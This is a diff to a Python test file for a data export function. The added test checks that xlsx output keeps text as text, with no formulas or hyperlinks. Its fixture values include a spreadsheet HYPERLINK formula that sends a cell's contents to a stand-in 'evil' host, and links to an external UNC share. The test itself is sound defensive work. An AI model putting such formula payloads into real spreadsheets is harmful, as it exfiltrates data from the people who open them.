@@ -1,5 +1,6 @@
 import io
 import json
+import zipfile
 from datetime import datetime
 from pathlib import Path
 
@@ -47,6 +48,17 @@ def test_csv_and_xlsx_hold_every_row_and_no_formula(tmp_path: Path) -> None:
     sheet = pd.read_excel(tmp_path / "a.xlsx")
     assert sheet["site_id"].tolist()[:2] == ["'=HYPERLINK(1)", "plain"]
     assert sheet["utilization_pct"].tolist()[0] == -12.5
+
+
+def test_in_a_workbook_all_text_is_text(tmp_path: Path) -> None:
+    """xlsxwriter makes an array formula of the first, and links of the others."""
+    names = ['{=HYPERLINK("http://evil/?"&A1)}', "http://evil/", "external:\\\\evil\\share", "mailto:x@y"]
+    export_table(OneTable(pl.DataFrame({"site_name": names})), "dim_site", "xlsx", tmp_path / "a.xlsx")
+    assert pd.read_excel(tmp_path / "a.xlsx")["site_name"].tolist() == names
+    with zipfile.ZipFile(tmp_path / "a.xlsx") as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f" not in sheet
+    assert "<hyperlink" not in sheet
 
 
 def test_parquet_export_is_untouched(tmp_path: Path) -> None:
